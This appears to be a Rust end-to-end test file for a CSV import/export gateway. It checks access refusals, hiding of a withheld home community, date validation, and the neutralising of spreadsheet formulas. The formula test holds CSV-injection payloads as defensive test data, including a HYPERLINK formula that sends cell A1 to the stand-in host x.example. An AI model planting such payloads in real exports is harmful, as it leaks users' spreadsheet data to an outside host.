//! The CSV door calls the application layers directly, as the caller: an outsider is refused by
//! them before anything is read or written, a withheld home community is an empty cell, and a
//! date that is not one is the caller's error, named by its parameter.

use cla_e2e::{Role, TestServer, mission_with_base};
use cla_gateway::csvio::{self, Dialect};
use cla_platform::access::Principal;

const STAFF: &str = include_str!("../../ops/examples/staff.csv");
const DEPLOYMENTS: &str = include_str!("../../ops/examples/deployments.csv");

fn who(role: Role, missions: &[&str]) -> Principal {
    Principal::new(
        format!("{}-user", role.as_str().to_lowercase()),
        "Test User",
        &[role],
        missions,
    )
}

#[tokio::test]
async fn the_application_layers_refuse_an_outsider_and_write_nothing() {
    let server = TestServer::start().await;
    mission_with_base(&server, "ALPHA").await;
    mission_with_base(&server, "BRAVO").await;
    let apps = &server.running.state.apps;
    let store = server.running.state.store.clone();
    let before = store.head().await.unwrap();
    for outsider in [
        who(Role::CivilAffairs, &["BRAVO"]),
        who(Role::MissionHr, &["BRAVO"]),
    ] {
        for dry_run in [true, false] {
            let staff =
                csvio::import_staff(apps, &outsider, "ALPHA", STAFF, Dialect::Standard, dry_run)
                    .await;
            assert_eq!(staff.unwrap_err().code, "FORBIDDEN");
            let deployed = csvio::import_deployments(
                apps,
                &outsider,
                "ALPHA",
                DEPLOYMENTS,
                Dialect::Standard,
                dry_run,
            )
            .await;
            assert_eq!(deployed.unwrap_err().code, "FORBIDDEN");
        }
        assert_eq!(
            csvio::export_board(apps, &outsider, "ALPHA", None, Dialect::Standard)
                .unwrap_err()
                .code,
            "FORBIDDEN"
        );
        assert_eq!(
            csvio::export_staff(apps, &outsider, "ALPHA", Dialect::Standard)
                .unwrap_err()
                .code,
            "FORBIDDEN"
        );
        // The review covers only the outsider's own mission, and all of it together.
        let review = csvio::export_review(apps, &outsider, None, Dialect::Standard).unwrap();
        let scopes: Vec<&str> = review
            .lines()
            .skip(1)
            .filter_map(|l| l.split(',').nth(1))
            .collect();
        assert_eq!(scopes, ["BRAVO", "ALL"], "{review}");
    }
    // The writer of one context is no writer of the other.
    let ca = who(Role::CivilAffairs, &["ALPHA"]);
    let hr = who(Role::MissionHr, &["ALPHA"]);
    let refused = csvio::import_staff(apps, &ca, "ALPHA", STAFF, Dialect::Standard, true).await;
    assert_eq!(refused.unwrap_err().code, "FORBIDDEN");
    let refused =
        csvio::import_deployments(apps, &hr, "ALPHA", DEPLOYMENTS, Dialect::Standard, true).await;
    assert_eq!(refused.unwrap_err().code, "FORBIDDEN");
    assert_eq!(store.head().await.unwrap(), before, "nothing was written");
    server.stop().await;
}

#[tokio::test]
async fn a_withheld_home_community_is_an_empty_cell() {
    let server = TestServer::start().await;
    mission_with_base(&server, "ALPHA").await;
    let apps = &server.running.state.apps;
    let file = "index_number,name,gender,grade,appointment_type,appointment_start,appointment_end,base,languages,home_community,status,effective\n\
         4700001,Amani K.,FEMALE,GS-5,FIXED_TERM,2024-03-01,2026-12-31,Base One,Swahili:NATIVE,Kambi,ACTIVE,2024-03-01\n".to_string();
    let hr = who(Role::MissionHr, &["ALPHA"]);
    let report = csvio::import_staff(apps, &hr, "ALPHA", &file, Dialect::Standard, false)
        .await
        .unwrap();
    assert_eq!((report.created, report.errors.len()), (1, 0), "{report:?}");
    let cell = |csv: &str| {
        csv.lines()
            .nth(1)
            .and_then(|l| l.split(',').nth(9))
            .map(str::to_string)
    };
    let for_hr = csvio::export_staff(apps, &hr, "ALPHA", Dialect::Standard).unwrap();
    assert_eq!(cell(&for_hr).as_deref(), Some("Kambi"), "{for_hr}");
    let for_hq = csvio::export_staff(
        apps,
        &who(Role::HqReviewer, &[]),
        "ALPHA",
        Dialect::Standard,
    )
    .unwrap();
    assert_eq!(cell(&for_hq).as_deref(), Some(""), "{for_hq}");
    assert!(!for_hq.contains("Kambi"), "{for_hq}");
    server.stop().await;
}

#[tokio::test]
async fn a_download_date_that_is_not_a_date_is_the_callers_error() {
    let server = TestServer::start().await;
    mission_with_base(&server, "ALPHA").await;
    let apps = &server.running.state.apps;
    let admin = who(Role::Admin, &[]);
    for refused in [
        csvio::export_board(apps, &admin, "ALPHA", Some("2024-13-01"), Dialect::Standard),
        csvio::export_review(apps, &admin, Some("yesterday"), Dialect::Standard),
    ] {
        let e = refused.unwrap_err();
        assert_eq!(
            (e.code.as_str(), e.field.as_deref()),
            ("VALIDATION", Some("asOf"))
        );
    }
    let board =
        csvio::export_board(apps, &admin, "ALPHA", Some("2030-01-01"), Dialect::Standard).unwrap();
    assert_eq!(
        board.lines().count(),
        2,
        "a header and the one base: {board}"
    );
    server.stop().await;
}

/// A spreadsheet never runs what a cell holds: a base, a name or a home community that starts a
/// formula is exported as text (a leading apostrophe), and the staff list imports again unchanged.
/// (Names are trimmed when recorded, so a leading tab or carriage return is covered by the unit
/// test of the cell rule.)
#[tokio::test]
async fn cells_that_would_start_a_formula_are_exported_as_text() {
    let server = TestServer::start().await;
    let (office, _) = mission_with_base(&server, "ALPHA").await;
    let admin = server.admin();
    let payloads = [
        "=HYPERLINK(\"http://x.example/?\"&A1,\"open\")",
        "+SUM(1,2)",
        "-2+3",
        "@SUM(A1)",
    ];
    let base = cla_e2e::open_base(&server, &admin, &office, payloads[0]).await;
    let hr = server.token(Role::MissionHr, &["ALPHA"]);
    for (i, name) in payloads[1..].iter().enumerate() {
        server
            .ok(
                &hr,
                "mutation($b: String!, $n: String!, $h: String!, $i: String!) { registerStaffMember(input: {baseId: $b, name: $n, gender: FEMALE, homeCommunity: $h, indexNumber: $i, grade: \"GS-4\", appointment: {type: FIXED_TERM, start: \"2024-03-01\", end: \"2030-12-31\"}, effective: \"2024-03-01\"}) { id } }",
                serde_json::json!({ "b": base, "n": name, "h": payloads[1], "i": format!("55000{i}") }),
            )
            .await;
    }
    let apps = &server.running.state.apps;
    let caller = who(Role::MissionHr, &["ALPHA"]);
    let staff = csvio::export_staff(apps, &caller, "ALPHA", Dialect::Standard).unwrap();
    let board = csvio::export_board(apps, &caller, "ALPHA", None, Dialect::Standard).unwrap();
    let mut all = Vec::new();
    for text in [&staff, &board] {
        let mut reader = csv::ReaderBuilder::new().from_reader(text.as_bytes());
        let mut cells = 0;
        for record in reader.records() {
            for cell in record.unwrap().iter() {
                cells += 1;
                all.push(cell.to_string());
                assert!(
                    !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
                    "a cell a spreadsheet would run: {cell:?} in\n{text}"
                );
            }
        }
        assert!(cells > 0);
    }
    for payload in payloads {
        let shown = format!("'{payload}");
        assert!(
            all.contains(&shown),
            "{payload:?} not shown as text: {all:?}"
        );
    }
    let again = csvio::import_staff(apps, &caller, "ALPHA", &staff, Dialect::Standard, false)
        .await
        .unwrap();
    assert_eq!((again.created, again.errors.len()), (0, 0), "{again:?}");
    assert_eq!(again.unchanged, payloads.len() - 1);
    server.stop().await;
}
